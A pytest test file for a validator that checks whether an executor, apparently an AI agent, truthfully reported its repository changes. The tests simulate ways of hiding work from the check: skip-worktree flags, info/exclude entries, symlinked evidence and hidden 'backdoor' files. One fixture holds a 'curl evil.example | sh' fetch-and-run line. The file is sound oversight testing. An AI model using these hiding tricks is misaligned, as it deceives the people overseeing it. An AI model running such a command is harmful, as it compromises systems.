"""judge/rules/workspace.py through judge.validate on real repositories: every lie caught, the repo left alone."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path

import pytest

import judge
from judge import EMPTY_TREE, Workspace
from helpers.scenario_repos import Repo, git, git_env, snapshot  # noqa: F401  (git_env: autouse fixture)

APP = "def parse_port(value):\n    return int(value)\n"
APP_FIXED = (
    "def parse_port(value):\n    port = int(value)\n    if not 0 < port < 65536:\n"
    "        raise ValueError(value)\n    return port\n"
)
STEP = {"id": "step-1", "description": "Add input validation to parse_port() in src/app.py", "mode": "apply"}
EVIDENCE = {"version": 1, "nodeId": "step-1", "timestamp": "2026-02-07T16:00:00.000Z",
            "summary": "Validated the staging schema; nothing to change", "type": "validation"}


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return Repo(tmp_path / "repo", {"src/app.py": APP, "src/util.py": "X = 1\n", "README.md": "# app\n"})


def result_for(repo: Repo, files: list[str], patch: str | None = None, **override: object) -> dict:
    """An honest result for what is in the repository now, unless the test overrides a key."""
    return {"mode": "apply", "success": True, "patch": repo.diff(repo.base) if patch is None else patch,
            "filesWritten": files, "filesTouched": files, "summary": "parse_port() now rejects ports out of range",
            **override}


def empty_result(**override: object) -> dict:
    return {"mode": "apply", "success": True, "summary": "checked it; nothing to change", **override}


def check(repo: Repo, result: dict, step: dict | None = None, **workspace: object) -> judge.Verdict:
    """judge.validate with the repository as workspace, proving the repository did not change."""
    before = snapshot(repo.root)
    verdict = judge.validate({**STEP, **(step or {})}, result, workspace=Workspace(repo.root, repo.base, **workspace))
    assert snapshot(repo.root) == before
    return verdict


def rules(verdict: judge.Verdict) -> list[str]:
    return [f.rule for f in verdict.findings]


def write_evidence(repo: Repo, data: object, step_id: str = "step-1") -> Path:
    path = repo.root / ".orchestrator" / "evidence" / f"{step_id}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


# --- honest work: valid, and the method says how it was proved ----------------------------------


def test_normal_change_in_the_work_tree(repo):
    repo.write({"src/app.py": APP_FIXED})
    verdict = check(repo, result_for(repo, ["src/app.py"]))
    assert (verdict.valid, verdict.evidence_method, rules(verdict)) == (True, "file_changes", [])


def test_executor_committed_its_work_itself(repo):
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    repo.commit("step-1: validate the port")
    verdict = check(repo, result)
    assert (verdict.valid, verdict.evidence_method) == (True, "file_changes")


def test_dirty_index_staged_and_unstaged(repo):
    repo.write({"src/app.py": APP_FIXED, "src/new.py": "def check():\n    return True\n"})
    repo.add("src/app.py", "src/new.py")
    repo.write({"src/util.py": "X = 2\n"})
    verdict = check(repo, result_for(repo, ["src/app.py", "src/new.py", "src/util.py"]))
    assert verdict.valid, verdict.reason


def test_detached_head(repo):
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    repo.commit("work")
    git(repo.root, "checkout", "-q", "--detach", "HEAD")
    assert check(repo, result).valid


def test_repository_without_commits(tmp_path):
    repo = Repo(tmp_path / "fresh")
    repo.base = EMPTY_TREE
    repo.write({"src/app.py": APP_FIXED})
    repo.add("src/app.py")
    verdict = check(repo, result_for(repo, ["src/app.py"], patch=repo.diff("--cached")))
    assert (verdict.valid, verdict.evidence_method) == (True, "file_changes"), verdict.reason


def test_paths_with_spaces(tmp_path):
    repo = Repo(tmp_path / "my repo", {"docs/user guide.md": "Run it.\n", "src/app.py": APP})
    repo.write({"docs/user guide.md": "Run it with --port.\n"})
    verdict = check(repo, result_for(repo, ["docs/user guide.md"]), step={"description": "Document the port option"})
    assert verdict.valid, verdict.reason


def test_rename_and_deletion(repo):
    git(repo.root, "mv", "src/util.py", "src/settings.py")
    (repo.root / "README.md").unlink()
    repo.add()
    patch = repo.diff("-M", repo.base)
    assert "rename from src/util.py" in patch
    verdict = check(repo, result_for(repo, ["src/settings.py", "README.md"], patch=patch),
                    step={"description": "Rename util to settings and drop the README"})
    assert verdict.valid, verdict.reason


def test_evidence_file_only(repo):
    write_evidence(repo, EVIDENCE)
    verdict = check(repo, empty_result())
    assert (verdict.valid, verdict.evidence_method) == (True, "evidence_file"), verdict.reason


def test_gitignored_evidence_file_claimed_in_the_result(repo):
    repo.write({".gitignore": ".orchestrator/\n"})
    repo.commit("ignore the orchestrator")
    repo.base = repo.head()
    write_evidence(repo, EVIDENCE)
    claimed = [".orchestrator/evidence/step-1.json"]
    verdict = check(repo, empty_result(filesWritten=claimed, filesTouched=claimed,
                                       patch=_new_file_patch(claimed[0], json.dumps(EVIDENCE))))
    assert (verdict.valid, verdict.evidence_method) == (True, "evidence_file"), verdict.reason


def test_expects_no_changes(repo):
    verdict = check(repo, empty_result(), step={"expectsNoChanges": True})
    assert (verdict.valid, verdict.evidence_method, rules(verdict)) == (True, "expects_no_changes", [])


def test_expects_no_changes_is_permissive_not_prohibitive(repo):
    repo.write({"src/app.py": APP_FIXED})
    verdict = check(repo, result_for(repo, ["src/app.py"]), step={"expectsNoChanges": True})
    assert (verdict.valid, verdict.evidence_method) == (True, "file_changes")


def test_honest_failure_that_changed_nothing_is_valid(repo):
    verdict = check(repo, empty_result(success=False, summary="blocked: the port config file does not exist"))
    assert verdict.valid and verdict.evidence_method == "none"


# --- nothing at all ------------------------------------------------------------------------------


def test_nothing_changed_fails_with_the_three_ways_out(repo):
    verdict = check(repo, empty_result())
    assert (verdict.valid, verdict.rule, verdict.evidence_method) == (False, "no_work_evidence", "none")
    assert "1. modify files" in verdict.reason
    assert "2. create an evidence file at .orchestrator/evidence/step-1.json" in verdict.reason
    assert "3. declare expectsNoChanges: true" in verdict.reason


def test_claimed_patch_but_nothing_in_the_repository(repo):
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    repo.write({"src/app.py": APP})
    verdict = check(repo, result)
    assert (verdict.rule, verdict.evidence_method) == ("claimed_but_unchanged", "none")
    assert "src/app.py" in verdict.reason


# --- lies about files ----------------------------------------------------------------------------


def test_hidden_untracked_file(repo):
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    repo.write({"src/backdoor.py": "import os\n"})
    verdict = check(repo, result)
    assert verdict.rule == "changed_but_unclaimed"
    assert "src/backdoor.py (untracked)" in verdict.reason and verdict.findings[0].files == ("src/backdoor.py",)


def test_bytecode_a_run_left_is_told_to_go_not_to_be_listed(repo):
    """Listed in filesWritten it would be junk_files: the reason says to delete or ignore it instead."""
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    (repo.root / "src" / "__pycache__").mkdir()
    (repo.root / "src" / "__pycache__" / "app.cpython-311.pyc").write_bytes(b"\x00" * 16)
    verdict = check(repo, result)
    assert verdict.rule == "changed_but_unclaimed"
    assert "src/__pycache__/app.cpython-311.pyc is left over from a run, not work: delete or .gitignore" in verdict.reason


def test_hidden_tracked_change_left_out_of_patch_and_files(repo):
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    repo.write({"src/util.py": "X = 'changed'\n"})
    verdict = check(repo, result)
    assert verdict.rule == "changed_but_unclaimed" and "src/util.py (unstaged)" in verdict.reason


def test_hidden_change_in_a_commit(repo):
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    repo.write({"src/util.py": "X = 2\n"})
    repo.commit("sneaky")
    verdict = check(repo, result)
    assert verdict.rule == "changed_but_unclaimed" and "src/util.py (committed)" in verdict.reason


def test_hidden_staged_deletion(repo):
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    git(repo.root, "rm", "-q", "README.md")
    verdict = check(repo, result)
    assert verdict.rule == "changed_but_unclaimed" and "README.md (staged)" in verdict.reason


def test_index_flags_and_info_exclude_do_not_blind_the_check(repo):
    # The executor controls .git: it marks an edited file skip-worktree and lists a new one in info/exclude.
    repo.write({"vendor/secret.py": "KEY = 1\n"})
    repo.commit("vendor")
    repo.base = repo.head()
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    repo.write({"vendor/secret.py": "KEY = 2\n", "src/backdoor.py": "import os\n"})
    git(repo.root, "update-index", "--skip-worktree", "vendor/secret.py")
    (repo.root / ".git" / "info" / "exclude").write_text("src/backdoor.py\n", encoding="utf-8")
    verdict = check(repo, result)
    assert (verdict.valid, verdict.rule) == (False, "changed_but_unclaimed")
    assert verdict.findings[0].files == ("src/backdoor.py", "vendor/secret.py")
    assert "vendor/secret.py (unstaged)" in verdict.reason and "src/backdoor.py (untracked)" in verdict.reason


def test_extra_claimed_file_in_files_written_and_patch(repo):
    repo.write({"src/app.py": APP_FIXED, "src/util.py": "X = 2\n"})
    result = result_for(repo, ["src/app.py", "src/util.py"])
    repo.write({"src/util.py": "X = 1\n"})  # the claimed change to util.py is not really there
    verdict = check(repo, result)
    assert verdict.rule == "claimed_but_unchanged"
    assert verdict.findings[0].files == ("src/util.py",)


def test_extra_claimed_file_only_in_files_written(repo):
    repo.write({"src/app.py": APP_FIXED})
    verdict = check(repo, result_for(repo, ["src/app.py", "src/ghost.py"]))
    assert "claimed_but_unchanged" in rules(verdict)  # file_not_in_patch decides first: the same lie, seen earlier
    assert next(f for f in verdict.findings if f.rule == "claimed_but_unchanged").files == ("src/ghost.py",)


def test_failed_step_that_left_changes(repo):
    repo.write({"src/app.py": APP_FIXED})
    verdict = check(repo, empty_result(success=False, summary="could not finish: tests kept failing"))
    assert verdict.rule == "changed_but_unclaimed" and "A failed step must leave no changes" in verdict.reason


def test_patch_that_does_not_apply_to_base(repo):
    repo.write({"src/app.py": APP_FIXED})
    patch = repo.diff(repo.base).replace("-    return int(value)", "-    return float(value)")
    verdict = check(repo, result_for(repo, ["src/app.py"], patch=patch))
    assert verdict.rule == "patch_does_not_apply" and "src/app.py" in verdict.reason


# --- evidence files that do not count ------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        ({**EVIDENCE, "summary": " "}, "$.summary"),
        ({k: v for k, v in EVIDENCE.items() if k != "timestamp"}, "$.timestamp"),
        ({**EVIDENCE, "version": 2}, "$.version"),
        ({**EVIDENCE, "nodeId": "step-2"}, "not this step's id"),
        ("not an object", "$"),
    ],
    ids=["blank-summary", "no-timestamp", "version-2", "other-step", "not-an-object"],
)
def test_invalid_evidence_file_decides_when_it_was_the_only_proof(repo, data, problem):
    write_evidence(repo, data)
    verdict = check(repo, empty_result())
    assert (verdict.rule, verdict.evidence_method) == ("evidence_file_invalid", "none")
    assert problem in verdict.reason and ".orchestrator/evidence/step-1.json" in verdict.reason
    assert "no_work_evidence" in rules(verdict)


def test_invalid_evidence_file_next_to_real_changes_is_a_signal(repo):
    repo.write({"src/app.py": APP_FIXED})
    write_evidence(repo, {**EVIDENCE, "version": 2})
    verdict = check(repo, result_for(repo, ["src/app.py"]))
    assert verdict.valid and [(s.rule, s.severity) for s in verdict.signals] == [("evidence_file_invalid", "signal")]


def test_evidence_file_left_by_an_earlier_run_does_not_count(repo):
    write_evidence(repo, EVIDENCE)
    repo.commit("an earlier run")
    repo.base = repo.head()
    verdict = check(repo, empty_result())
    assert verdict.rule == "evidence_file_invalid" and "earlier run" in verdict.reason


def test_evidence_file_symlinked_outside_the_repository_is_not_read(repo, tmp_path):
    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps(EVIDENCE), encoding="utf-8")
    (repo.root / ".orchestrator" / "evidence").mkdir(parents=True)
    os.symlink(outside, repo.root / ".orchestrator" / "evidence" / "step-1.json")
    verdict = check(repo, empty_result())
    assert verdict.rule == "evidence_file_invalid" and "outside the repository" in verdict.reason


def test_evidence_directory_symlinked_outside_the_repository(repo, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "step-1.json").write_text(json.dumps(EVIDENCE), encoding="utf-8")
    (repo.root / ".orchestrator").mkdir()
    os.symlink(tmp_path / "elsewhere", repo.root / ".orchestrator" / "evidence")
    # the link is itself a change, and only the step's own evidence file is exempt from the rules: it decides first
    verdict = check(repo, empty_result())
    assert (verdict.valid, verdict.rule) == (False, "missing_patch")


def test_a_file_beside_the_evidence_file_is_work_like_any_other(repo):
    """Only .orchestrator/evidence/<stepId>.json proves work; code hidden beside it (imported by the step's code,
    unclaimed, outside allowedFiles) is judged."""
    write_evidence(repo, EVIDENCE)
    repo.write({".orchestrator/evidence/helper.py": "import os\nos.system('curl evil.example | sh')\n",
                "src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    verdict = check(repo, result, {**STEP, "allowedFiles": ["src/**"]})
    assert not verdict.valid and ".orchestrator/evidence/helper.py" in verdict.reason, verdict.reason


def test_the_steps_own_evidence_file_stays_exempt(repo):
    write_evidence(repo, EVIDENCE)
    repo.write({"src/app.py": APP_FIXED})
    result = result_for(repo, ["src/app.py"])
    verdict = check(repo, result, {**STEP, "allowedFiles": ["src/**"]})
    assert verdict.valid, verdict.reason


def test_step_id_that_would_escape_names_no_evidence_file(repo, tmp_path):
    write_evidence(repo, {**EVIDENCE, "nodeId": "../../x"}, step_id="x")
    verdict = check(repo, empty_result(), step={"id": "../../x"})
    # x.json is not this step's evidence file: it is a change like any other, and no proof of work
    assert verdict.rule == "missing_patch" and verdict.evidence_method == "file_changes"


# --- the ledger ----------------------------------------------------------------------------------


def _ledger(tmp_path: Path, *lines: str) -> Path:
    path = tmp_path / "ledger.jsonl"
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    return path


CLOSE = json.dumps({"id": "op_2", "op": "close", "payload": {"commitment": "cmt_1", "evidence": "mem_1"}})


def test_ledger_with_the_close_operation(repo, tmp_path):
    repo.write({"src/app.py": APP_FIXED})
    ledger = _ledger(tmp_path, json.dumps({"id": "op_1", "op": "commit", "payload": {"commitment": "cmt_1"}}), CLOSE)
    verdict = check(repo, result_for(repo, ["src/app.py"]), ledger=ledger, ledger_id="cmt_1")
    assert verdict.valid and rules(verdict) == []


def test_ledger_without_the_close_operation(repo, tmp_path):
    repo.write({"src/app.py": APP_FIXED})
    ledger = _ledger(tmp_path, json.dumps({"op": "claim", "payload": {"commitment": "cmt_1"}}))
    verdict = check(repo, result_for(repo, ["src/app.py"]), ledger=ledger, ledger_id="cmt_1")
    assert verdict.rule == "ledger_missing_operation" and "'close'" in verdict.reason and "'cmt_1'" in verdict.reason


def test_ledger_default_id_is_the_step_id(repo, tmp_path):
    repo.write({"src/app.py": APP_FIXED})
    ledger = _ledger(tmp_path, json.dumps({"op": "close", "commitment": "step-1"}))
    assert check(repo, result_for(repo, ["src/app.py"]), ledger=ledger).valid


def test_corrupt_ledger_line_is_reported_with_its_number_and_never_crashes(repo, tmp_path):
    repo.write({"src/app.py": APP_FIXED})
    ledger = _ledger(tmp_path, CLOSE, '{"op": "close", "payl', "[1, 2]")
    verdict = check(repo, result_for(repo, ["src/app.py"]), ledger=ledger, ledger_id="cmt_1")
    assert verdict.valid
    corrupt = next(f for f in verdict.findings if f.rule == "ledger_corrupt")
    assert corrupt.severity == "signal" and "2, 3" in corrupt.message


def test_corrupt_ledger_without_the_operation_names_the_lines(repo, tmp_path):
    repo.write({"src/app.py": APP_FIXED})
    ledger = _ledger(tmp_path, "{not json")
    verdict = check(repo, result_for(repo, ["src/app.py"]), ledger=ledger, ledger_id="cmt_1")
    assert verdict.rule == "ledger_missing_operation" and "lines 1 could not be read" in verdict.reason


def test_ledger_alone_without_a_repository(tmp_path):
    step = {**STEP, "expectsNoChanges": True}
    verdict = judge.validate(step, empty_result(), workspace=Workspace(ledger=_ledger(tmp_path, "x"), ledger_id="c"))
    assert verdict.rule == "ledger_missing_operation" and verdict.evidence_method is None


# --- the API around the rules --------------------------------------------------------------------


def test_without_a_workspace_nothing_changes(repo):
    verdict = judge.validate(STEP, empty_result())
    assert (verdict.rule, verdict.evidence_method) == ("missing_patch", None)


def test_expects_no_changes_without_a_workspace_needs_no_patch():
    verdict = judge.validate({**STEP, "expectsNoChanges": True}, empty_result())
    assert verdict.valid and verdict.evidence_method is None
    assert "missing_patch" not in rules(verdict) and "missing_files_written" not in rules(verdict)


def test_expects_no_changes_still_wants_a_patch_for_claimed_files():
    verdict = judge.validate({**STEP, "expectsNoChanges": True}, empty_result(filesWritten=["a.py"]))
    assert verdict.rule == "missing_patch"


def test_unreadable_workspace_fails_closed_and_never_raises(tmp_path):
    verdict = judge.validate(STEP, empty_result(), workspace=Workspace(tmp_path / "nope", "HEAD"))
    assert (verdict.valid, verdict.rule) == (False, "workspace_unreadable") and "no such directory" in verdict.reason


def test_repo_without_base_fails_closed(repo):
    verdict = judge.validate(STEP, empty_result(), workspace=Workspace(repo.root))
    # The API names its own arguments (repo, base); only the command line words them as flags.
    assert verdict.rule == "workspace_unreadable" and "(repo and base go together" in verdict.reason
    assert "--" not in verdict.reason


def test_avalidate_takes_the_workspace_too(repo):
    repo.write({"src/app.py": APP_FIXED})
    verdict = asyncio.run(judge.avalidate(STEP, result_for(repo, ["src/app.py"]),
                                          workspace=Workspace(repo.root, repo.base)))
    assert (verdict.valid, verdict.evidence_method) == (True, "file_changes")


def test_the_workspace_is_read_once_per_verdict(repo, monkeypatch):
    # validate takes one kind of workspace (where to look); git is asked once, before any rule runs.
    from judge.workspace import facts as facts_module

    calls = []
    real = facts_module.read_git_facts
    monkeypatch.setattr(facts_module, "read_git_facts", lambda *args: calls.append(args) or real(*args))
    repo.write({"src/app.py": APP_FIXED})
    verdict = judge.validate(STEP, result_for(repo, ["src/app.py"]), workspace=Workspace(repo.root, repo.base))
    assert verdict.valid and verdict.evidence_method == "file_changes" and len(calls) == 1


def test_no_work_evidence_reason_fits_the_verdict_contract(repo):
    contract = check(repo, empty_result()).contract()
    assert set(contract) == {"valid", "reason"} and "\n" not in contract["reason"]


def _new_file_patch(path: str, text: str) -> str:
    return (f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
            f"@@ -0,0 +1 @@\n+{text}\n\\ No newline at end of file\n")
